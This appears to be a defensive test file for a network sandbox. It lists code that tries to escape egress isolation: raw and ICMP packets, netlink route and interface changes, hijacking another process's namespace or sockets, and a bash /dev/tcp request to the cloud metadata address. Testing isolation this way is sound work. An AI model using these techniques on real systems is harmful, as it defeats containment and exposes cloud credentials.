"""Attempts by other protocols than TCP, at the settings of the network, and from other processes than the first."""

from __future__ import annotations

from tests.harness.escape.egress import Row
from tests.harness.world import METADATA, OWN, PUBLIC

OTHER_PROTOCOLS = (
    *(
        Row(name=f"a datagram: {what}", code=f'return datagram("{host}", {port}, T.encode())', also_open=True)
        for what, (host, port) in {
            "QUIC": ("good.example", 443),
            "time": ("good.example", 123),
            "metadata": (METADATA, 123),
            "a public address": ("8.8.8.8", 443),
            "all": ("255.255.255.255", 1900),
            "a group": ("224.0.0.251", 5353),
            "a port that nobody serves": ("9.9.9.9", 4444),
            "the host": (OWN, 123),
            "the host's loopback": ("127.0.0.1", 123),
        }.items()
    ),
    Row(
        name="a datagram: version 6",
        code='return datagram("2606:4700::1111", 443, T.encode(), socket.AF_INET6)',
        also_open=True,
    ),
    Row(
        name="multipath TCP",
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        caller.settimeout(WAIT_S)
        caller.connect(("{METADATA}", 80))
        return say(caller, f"GET /{{T}} HTTP/1.0\\r\\n\\r\\n".encode())
        """,
        also_open=True,
    ),
    Row(
        name="data with the first packet",
        code=f"""
        caller = socket.socket()
        caller.sendto(f"GET /{{T}} HTTP/1.0\\r\\n\\r\\n".encode(), socket.MSG_FASTOPEN, ("{METADATA}", 80))
        return listen(caller)
        """,
        also_open=True,
    ),
    Row(
        name="a ping",
        needs_powers=True,
        code=f"""
        head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
        words = struct.unpack(f"!{{(len(head) + len(T) + 1) // 2}}H", head + T.encode() + bytes(len(T) % 2))
        total = sum(words)
        total = (total >> 16) + (total & 0xFFFF)
        packet = struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 1, 1) + T.encode()
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        caller.settimeout(1)
        caller.sendto(packet, ("{PUBLIC}", 0))
        return caller.recv(100)
        """,
        also_open=True,
    ),
    Row(
        name="a raw packet",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
        caller.sendto(T.encode(), ("{PUBLIC}", 0))
        """,
        also_open=True,
    ),
    Row(
        name="a raw packet with a head of its own",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        addresses = socket.inet_aton("{OWN}") + socket.inet_aton("{PUBLIC}")
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(T), 1, 0, 64, 253, 0) + addresses
        caller.sendto(head + T.encode(), ("{PUBLIC}", 0))
        """,
    ),
    Row(
        name="a frame",
        needs_powers=True,
        code="""
        caller = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        caller.bind((devices()[0][1], 0))
        caller.send(b"\\xff" * 6 + bytes(6) + b"\\x88\\xb5" + T.encode() + bytes(46))
        """,
        also_open=True,
    ),
    Row(
        name="a socket that is bound to a device",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        caller.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, devices()[0][1].encode() + b"\\0")
        caller.sendto(T.encode(), ("{METADATA}", 123))
        """,
        also_open=True,
    ),
    Row(
        name="a socket of the host without a path",
        code="""
        caller = socket.socket(socket.AF_UNIX)
        caller.connect("\\0host-of-tests")
        caller.sendall(T.encode())
        return listen(caller)
        """,
        also_open=True,
    ),
)
SETTINGS = (
    Row(
        name="an address of its own making",
        needs_powers=True,
        code="""
        body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, socket.if_nameindex()[:2][-1][0])
        netlink(20, 0x600, body + attribute(1, b"\\x2d\\x43\\x59\\x63") + attribute(2, b"\\x2d\\x43\\x59\\x63"))
        raise Escaped("it has an address more")
        """,
    ),
    Row(
        name="a route of its own making",
        needs_powers=True,
        code="""
        body = struct.pack("=BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 4, 253, 1, 0)
        device = struct.pack("=I", socket.if_nameindex()[:2][-1][0])
        netlink(24, 0x600, body + attribute(1, b"\\x2d\\x43\\x60\\0") + attribute(4, device))
        raise Escaped("it has a route more")
        """,
    ),
    Row(
        name="an interface of its own making",
        needs_powers=True,
        code="""
        kind = attribute(18, attribute(1, b"veth\\0"))
        netlink(16, 0x600, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attribute(3, b"escape0\\0") + kind)
        raise Escaped("it has an interface more")
        """,
    ),
    Row(
        name="a setting of the kernel's",
        needs_powers=True,
        code="""
        with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
            file.write("0")
        raise Escaped("it changed a setting")
        """,
    ),
    Row(
        name="a listener's port",
        needs_powers=True,
        code="""
        for port in (444, 53):
            with socket.socket() as taken:
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                taken.bind(("127.0.0.1", port))
                taken.listen()
        raise Escaped("it listens there")
        """,
    ),
    Row(
        name="the port of the name server, by datagrams",
        needs_powers=True,
        code="""
        taken = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        taken.bind(("0.0.0.0", 53))
        raise Escaped("it answers there")
        """,
    ),
    Row(
        name="the namespace of another process",
        needs_powers=True,
        code="""
        import ctypes
        own = os.stat("/proc/self/ns/net").st_ino
        for entry in os.listdir("/proc"):
            try:
                if entry.isdigit() and os.stat(f"/proc/{entry}/ns/net").st_ino != own:
                    fd = os.open(f"/proc/{entry}/ns/net", os.O_RDONLY)
                    if ctypes.CDLL(None).setns(fd, 0) == 0:
                        raise Escaped("it is elsewhere")
            except OSError:
                continue
        raise NEVER
        """,
    ),
    Row(
        name="a descriptor of another process",
        needs_powers=True,
        code="""
        import ctypes
        above = {os.getpid(), os.getppid()}
        for entry in os.listdir("/proc"):
            try:
                command = open(f"/proc/{entry}/cmdline", "rb").read() if entry.isdigit() else b""
                if b"internet" not in command or int(entry) in above:
                    continue
                for fd in os.listdir(f"/proc/{entry}/fd"):
                    if os.readlink(f"/proc/{entry}/fd/{fd}").startswith("socket:"):
                        if ctypes.CDLL(None).syscall(438, os.pidfd_open(int(entry)), int(fd), 0) >= 0:
                            raise Escaped("it has a socket of another process")
            except OSError:
                continue
        raise NEVER
        """,
    ),
)
REACH = f'get("{METADATA}", T)'
FORKS = f"""
done, stays = os.pipe()
if os.fork() == 0:
    try:
        {{before}}
        {REACH}
    finally:
        os._exit(0)
os.close(stays)
os.read(done, 1)  # which is over when all of them are
"""
SHELL = f"exec 3<>/dev/tcp/{METADATA}/80; echo GET /{{T}} HTTP/1.0 >&3; echo >&3; timeout 1 cat <&3"
FROM_OTHERS = tuple(
    Row(name=f"metadata from {what}", code=code, at=(METADATA,))
    for what, code in {
        "a fork": FORKS.format(before="pass"),
        "an orphan": FORKS.format(before="os.setsid(); os.fork() and os._exit(0)"),
        "a thread": f"""
        import threading
        one = threading.Thread(target=attempt, args=({{"token": T, "code": {REACH!r}}},))
        one.start()
        one.join()
        """,
        "another program": f"""
        import subprocess
        return subprocess.run(["bash", "-c", f"{SHELL}"], capture_output=True).stdout
        """,
    }.items()
)

ROWS = (*OTHER_PROTOCOLS, *SETTINGS, *FROM_OTHERS)
